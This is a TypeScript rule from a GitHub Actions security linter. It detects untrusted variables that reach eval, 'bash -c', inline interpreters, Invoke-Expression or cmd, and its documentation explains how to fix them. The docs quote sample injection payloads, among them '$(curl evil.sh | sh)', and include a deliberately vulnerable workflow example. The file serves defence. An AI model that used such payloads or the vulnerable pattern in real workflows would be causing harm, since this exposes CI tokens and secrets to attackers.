import { defineRule } from '../../engine/rule';
import type { AnalysisContext } from '../../engine/context';
import type { Job, Step } from '../../model/workflow';
import {
  actionTaint,
  describeTaint,
  taintSeverity,
  workflowTaint,
  type Taint,
  type TaintScope,
} from '../../analysis/taint';
import { describeReach, gatedReach, type Reach } from '../../analysis/triggers';
import { stepLanguage } from '../../analysis/shell-words';
import { scriptSinks, type ShellSink } from '../../analysis/shell-flow';

export default defineRule({
  meta: {
    id: 'shell-eval-injection',
    title: 'Untrusted variable run as code by eval, sh -c or an inline interpreter',
    description:
      "Attacker-controllable text in an environment variable (or a script variable derived from one) is run as code again: the argument of `eval` or `source`, the command string of `bash -c`/`sh -c`, the inline program of `python -c`, `node -e`, `perl -e`, `ruby -e`, PowerShell's `Invoke-Expression`, or any `%VAR%` in a `cmd` script.",
    severity: 'high',
    confidence: 'high',
    category: 'untrusted-input',
    aliases: ['shell-eval-injection', 'eval-injection'],
    appliesTo: ['workflow', 'action'],
    fixable: false,
    docs: {
      risk: 'Moving `${{ }}` into `env:` makes the value data only while the shell keeps it data. `eval "$TITLE"` or `bash -c "echo $TITLE"` paste the value into text that a shell parses again, and `python3 -c "print(\'$TITLE\')"` into a program: a title such as `$(curl evil.sh | sh)` or `\'); import os; os.system(\'...` runs with the job\'s token and secrets.',
      remediation:
        'Do not build code from untrusted text. Copying the value first (`CMD="$BODY"`, `X=$(echo "$BODY" | head -n1)`, `read -r X <<< "$BODY"`, `for f in $LIST`, `$c = $env:BODY`) does not make it data: the finding names each hop. Pass the value as an argument or through the environment of the inner program, which then reads it as data: `bash -c \'echo "$1"\' _ "$TITLE"`, `bash -c \'echo "$TITLE"\'` (single quotes: the inner shell expands it as data), `python3 -c \'import os; print(os.environ["TITLE"])\'`. Drop `eval` unless every input is a constant. In PowerShell call the command with the value as an argument instead of `Invoke-Expression`; in `cmd` read it with delayed expansion (`setlocal EnableDelayedExpansion`, `!BODY!`) or use pwsh or bash. Validating first also works: `[[ "$X" =~ ^[A-Za-z0-9._-]+$ ]] || exit 1`. There is no mechanical fix: the right form depends on what the code does with the value.',
      severity:
        "Follows who can trigger the workflow, as for template-injection: high when any GitHub user can and the job has secrets, low for dispatch inputs and inputs whose callers are not visible, low on `pull_request` (a fork's run has no secrets). A variable inside single quotes is not expanded by the outer shell and is not reported. A job whose steps (or the jobs it needs) ask the API for the user\'s repository permission counts as maintainer-only.",
      vulnerableExample:
        'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: bash -c "echo $BODY"\n',
      safeExample:
        'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: bash -c \'echo "$BODY"\'\n',
      references: [
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
        'https://cwe.mitre.org/data/definitions/95.html',
      ],
    },
  },

  step(step, job, wf, ctx) {
    const taint = workflowTaint(wf, ctx);
    check(step, job, taint.stepScope(step), gatedReach(wf, job, taint.reachOf(job, step)), ctx);
  },

  actionStep(step, action, ctx) {
    check(step, undefined, actionTaint(action, ctx).stepScope(step), 'action', ctx);
  },
});

function check(step: Step, job: Job | undefined, scope: TaintScope, reach: Reach | 'action', ctx: AnalysisContext) {
  const run = step.run;
  if (!run) return;
  for (const sink of scriptSinks(run, ctx.text, stepLanguage(step, job), scope.env))
    if (sink.kind === 'code') report(sink, reach, ctx);
}

function report(sink: ShellSink<Taint>, reach: Reach | 'action', ctx: AnalysisContext): void {
  const { taint, what } = sink;
  const how =
    what === 'cmd'
      ? 'cmd expands it before it parses the line, so its `&`, `|`, `>` and quotes are syntax. Read it with delayed expansion (`!NAME!`) or move the step to pwsh or bash'
      : what === 'Invoke-Expression'
        ? 'Invoke-Expression runs it: the value becomes code. Call the command directly with the value as an argument'
        : what.endsWith('source')
          ? `${what} runs the file it names: the value chooses the code. Source a fixed path`
          : `the shell pastes it into code that ${what} runs: the value becomes code. Pass it as an argument or keep it in single quotes so the inner program reads it as data`;
  ctx.report({
    message: `${sink.variable} holds ${describeTaint(taint)} and ${how}. (${describeReach(taint.reach ?? reach)})`,
    span: sink.span,
    severity: taintSeverity(taint, reach),
    confidence: taint.confidence,
    ...(sink.related.length ? { related: sink.related } : {}),
    properties: { context: taint.origin, via: taint.via, sink: what },
  });
}
